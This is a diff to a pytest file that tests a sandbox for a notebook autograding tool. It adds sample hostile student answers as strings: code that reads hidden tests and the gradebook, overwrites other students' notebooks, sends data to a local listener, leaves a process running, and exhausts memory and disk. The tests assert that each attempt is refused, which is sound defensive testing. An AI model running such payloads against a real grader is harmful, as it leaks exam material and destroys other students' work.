@@ -9,10 +9,14 @@ still graded. Several defects that touch different exercises share one notebook 
 import csv
 import json
 import os
+import re
+import shutil
+import socket
 import subprocess
 import sys
 
 import nbformat
+import psutil
 import pytest
 from nbgrader.api import Gradebook
 
@@ -61,7 +65,49 @@ def write(path, nb, version=4, mtime=None):
     return path
 
 
-def build_inbox(inbox, release):
+# A student's answer cell that reads the hidden tests and the gradebook and prints them, then overwrites every
+# other notebook of the course it can reach (tests/test_grading_sandbox.py tries each attack on its own).
+ATTACK_READ_AND_WRITE = """
+import glob, os
+for path in glob.glob('%(course)s/solutions/*/*.ipynb') + ['%(course)s/gradebook.db', '../../../gradebook.db']:
+    try:
+        print('ATTACK read', path, open(path, errors='replace').read())
+    except OSError as error:
+        print('ATTACK refused', path, type(error).__name__)
+for path in glob.glob('%(course)s/*/*/*/*.ipynb') + glob.glob('../../../*/*/*/*.ipynb'):
+    if os.path.abspath(path) != os.path.abspath('%(chapter)s.ipynb'):
+        try:
+            open(path, 'w').write('{}')
+            print('ATTACK overwrote', path)
+        except OSError as error:
+            print('ATTACK refused', path, type(error).__name__)
+print('ATTACK done')
+""".replace("%(chapter)s", CHAPTER)
+# ... and one that leaks over the network and leaves a process running after grading
+ATTACK_NETWORK_AND_PROCESS = """
+import socket, subprocess
+try:
+    socket.create_connection(('127.0.0.1', %(port)d), timeout=3).sendall(b'leak')
+    print('ATTACK connected')
+except OSError as error:
+    print('ATTACK refused', type(error).__name__)
+subprocess.Popen(['sleep', '%(token)s'], start_new_session=True, stdout=subprocess.DEVNULL)
+"""
+SLEEP_TOKEN = "987123"
+
+
+def hidden_test_lines():
+    """The lines of chapter 1's hidden tests (the attacker must never get them into its outputs)."""
+    nb = nbformat.read(ROOT / "solutions" / CHAPTER / f"{CHAPTER}.ipynb", as_version=4)
+    lines = []
+    for cell in nb.cells:
+        if "### BEGIN HIDDEN TESTS" in cell.source:
+            block = cell.source.split("### BEGIN HIDDEN TESTS")[1].split("### END HIDDEN TESTS")[0]
+            lines += [line.strip() for line in block.splitlines() if len(line.strip()) > 20]
+    return lines
+
+
+def build_inbox(inbox, release, course, port):
     """Files as a class sends them. Returns {student: expected points lost} for the graded students."""
     wrong_softmax = "import numpy as np\ndef softmax(logits):\n    return np.zeros_like(logits)"
     # two files from one student, named with the student id and a case variant: the newer one counts
@@ -86,6 +132,15 @@ def build_inbox(inbox, release):
                           param_count_solution="import os\nos._exit(1)")
     nb = delete_cell(delete_cell(nb, "accuracy_solution"), "softmax_tests")
     write(inbox / "jay" / f"{CHAPTER}.ipynb", set_source(nb, "output_choice_tests", "pass"))
+    # attacks with right answers (score: full marks), and a student graded after them whose name is not ASCII
+    write(inbox / "mallory" / f"{CHAPTER}.ipynb", student_notebook(
+        release, softmax_solution=f"{ATTACK_READ_AND_WRITE % {'course': str(course)}}\n{answers()['softmax_solution']}",
+        scale_solution=f"{ATTACK_NETWORK_AND_PROCESS % {'port': port, 'token': SLEEP_TOKEN}}\n{answers()['scale_solution']}"))
+    write(inbox / "Zoë" / f"{CHAPTER}.ipynb", student_notebook(release))
+    # attacks on the machine: unbounded memory (parameter count, 1 point), a huge file (output choice, 1 point)
+    write(inbox / "oscar" / f"{CHAPTER}.ipynb", student_notebook(
+        release, param_count_solution="chunks = []\nwhile True:\n    chunks.append(b'x' * 2 ** 26)",
+        output_choice_solution="with open('huge.bin', 'wb') as f:\n    while True:\n        f.write(b'x' * 2 ** 20)"))
     # broken files: invalid JSON, an empty file
     (inbox / "may").mkdir()
     (inbox / "may" / f"{CHAPTER}.ipynb").write_text('{"cells": [', encoding="utf-8")
@@ -96,7 +151,8 @@ def build_inbox(inbox, release):
     (inbox / "ada" / "notes.pdf").write_bytes(b"%PDF-1.4\n")
     write(inbox / "ada" / "99_quantum_computing.ipynb", nbformat.v4.new_notebook(
         cells=[nbformat.v4.new_markdown_cell("# Quantum"), nbformat.v4.new_code_cell("print(1)")]))
-    return {"bob": 0, "cleo": 0, "eve": 4, "jay": 5, "may": "all", "ned": "all"}
+    return {"bob": 0, "cleo": 0, "eve": 4, "jay": 5, "may": "all", "ned": "all", "mallory": 0, "zoë": 0,
+            "oscar": 2}
 
 
 def classroom(course, *args, timeout=900):
@@ -112,20 +168,30 @@ def snapshot(folder):
 
 @pytest.fixture(scope="module")
 def classroom_run(tmp_path_factory):
-    course = make_course(tmp_path_factory.mktemp("classroom"), tools=("classroom.py", "grading_safety.py"))
+    course = make_course(tmp_path_factory.mktemp("classroom"),
+                         tools=("classroom.py", "grading_safety.py", "grading_sandbox.py"))
     release_out = classroom(course, "release", CHAPTER)
     release = course / "chapters" / CHAPTER / f"{CHAPTER}.ipynb"
     inbox = tmp_path_factory.mktemp("inbox")
-    expected = build_inbox(inbox, release)
+    listener = socket.create_server(("127.0.0.1", 0))  # the attacker tries to send it the hidden tests
+    listener.setblocking(False)
+    expected = build_inbox(inbox, release, course, listener.getsockname()[1])
     before = snapshot(inbox)
     collect_out = classroom(course, "collect", str(inbox))
     grade_out = classroom(course, "grade", CHAPTER, "--jobs", "2", "--timeout", str(CELL_TIMEOUT),
-                          "--notebook-timeout", "300")
+                          "--notebook-timeout", "300", "--memory-limit", "3G", "--disk-limit", "100M")
+    try:
+        listener.accept()
+        connected = True
+    except BlockingIOError:
+        connected = False
+    listener.close()
+    leftover = [p.pid for p in psutil.process_iter(["cmdline"]) if SLEEP_TOKEN in (p.info["cmdline"] or [])]
     classroom(course, "export", "--output", str(course / "grades.csv"))
     with open(course / "grades.csv", newline="", encoding="utf-8") as handle:
         sheet = list(csv.DictReader(handle))
     return {"course": course, "inbox": inbox, "before": before, "expected": expected, "sheet": sheet,
-            "output": release_out + collect_out + grade_out}
+            "output": release_out + collect_out + grade_out, "connected": connected, "leftover": leftover}
 
 
 def graded(run, student):
@@ -244,6 +310,74 @@ def test_log_and_report_are_readable(classroom_run):
     assert log["submissions"][f"{CHAPTER}/jay"]["grade"]
     report = classroom(course, "report")
     assert "jay" in report and "stopped the Python kernel" in report
+
+
+def _outputs(notebook_path):
+    nb = nbformat.read(notebook_path, as_version=4)
+    return "\n".join(str(o.get("text", "")) + str(o.get("data", "")) + str(o.get("evalue", ""))
+                     for cell in nb.cells if cell.cell_type == "code" for o in cell.outputs)
+
+
+def test_attacker_gets_what_its_answers_earn_and_reaches_nothing(classroom_run):
+    course = classroom_run["course"]
+    outputs = _outputs(course / "autograded" / "mallory" / CHAPTER / f"{CHAPTER}.ipynb")
+    assert "ATTACK done" in outputs and "ATTACK refused" in outputs, "the attack code ran"
+    assert "ATTACK read" not in outputs and "ATTACK overwrote" not in outputs and "ATTACK connected" not in outputs
+    feedback = (course / "feedback" / "mallory" / CHAPTER / f"{CHAPTER}.html").read_text(encoding="utf-8")
+    hidden = hidden_test_lines()
+    assert hidden, "chapter 1 has hidden tests"
+    for line in hidden:
+        assert line not in outputs and line not in feedback, f"hidden test leaked: {line}"
+    assert "SQLite format" not in outputs
+    assert not classroom_run["connected"], "the sandbox has no network"
+    assert not classroom_run["leftover"], "a process the student started outlived grading"
+
+
+def test_other_students_work_is_untouched_by_the_attacker(classroom_run):
+    course = classroom_run["course"]
+    for student in ("bob", "zoë", "cleo"):
+        for folder in ("submitted", "autograded"):
+            nb = nbformat.read(course / folder / student / CHAPTER / f"{CHAPTER}.ipynb", as_version=4)
+            assert len(nb.cells) > 10, (folder, student)
+
+
+def test_memory_and_disk_limits_stop_only_their_cell(classroom_run):
+    _, _, cells = graded(classroom_run, "oscar")
+    assert cells["param_count_tests"] == 0 and cells["output_choice_tests"] == 0 and cells["model_tests"] == 2
+    problems = row(classroom_run, "oscar")["problems"]
+    assert "param_count_solution was stopped because it used more than 3.0 GiB of memory" in problems
+    assert "output_choice_solution was stopped because it wrote more than 100 MiB of files" in problems
+    written = sum(p.stat().st_size for p in (classroom_run["course"] / "autograded" / "oscar").rglob("*"))
+    assert written < 1024 ** 3
+
+
+def test_names_that_differ_only_outside_ascii_stay_different_students(tmp_path):
+    course = make_course(tmp_path / "course", tools=("classroom.py", "grading_safety.py", "grading_sandbox.py"))
+    shutil.copytree(ROOT / "chapters" / CHAPTER, course / "chapters" / CHAPTER)
+    release = course / "chapters" / CHAPTER / f"{CHAPTER}.ipynb"
+    inbox = tmp_path / "inbox"
+    for name in ("Zoë", "Zoé", "ZOË", "Ada Lovelace", "ada_lovelace", "Zoe\u0308"):  # the last is Zoë in NFD
+        write(inbox / name / f"{CHAPTER}.ipynb", student_notebook(release))
+    classroom(course, "collect", str(inbox))
+    log = json.loads((course / "submitted" / ".classroom.json").read_text())
+    students = sorted(item["student"] for item in log["submissions"].values())
+    assert students[0] == "ada_lovelace" and re.fullmatch(r"ada_lovelace-[0-9a-f]{6}", students[1]), students
+    assert students[2:] == ["zoé", "zoë"], "Zoë, ZOË and its NFD spelling are one student; Zoé another"
+    suffixed = log["submissions"][f"{CHAPTER}/{students[1]}"]
+    assert "reads as 'ada_lovelace', the id of another student" in suffixed["collect"][0]
+    classroom(course, "collect", str(inbox))
+    again = json.loads((course / "submitted" / ".classroom.json").read_text())
+    assert sorted(item["student"] for item in again["submissions"].values()) == students, "ids are stable"
+
+
+def test_grading_refuses_without_a_sandbox_unless_asked(tmp_path):
+    course = make_course(tmp_path / "course", tools=("classroom.py", "grading_safety.py", "grading_sandbox.py"))
+    result = subprocess.run([sys.executable, str(course / "tools" / "classroom.py"), "--course", str(course),
+                             "grade", "--bwrap", "/nonexistent/bwrap"], stdout=subprocess.PIPE,
+                            stderr=subprocess.STDOUT, text=True, timeout=300)
+    assert result.returncode != 0
+    assert "install Debian's package bubblewrap" in result.stdout and "--no-sandbox" in result.stdout
+    assert not (course / "autograded").exists()
 
 
 # ---- fast checks of the matching rules, without grading ------------------------------------------------
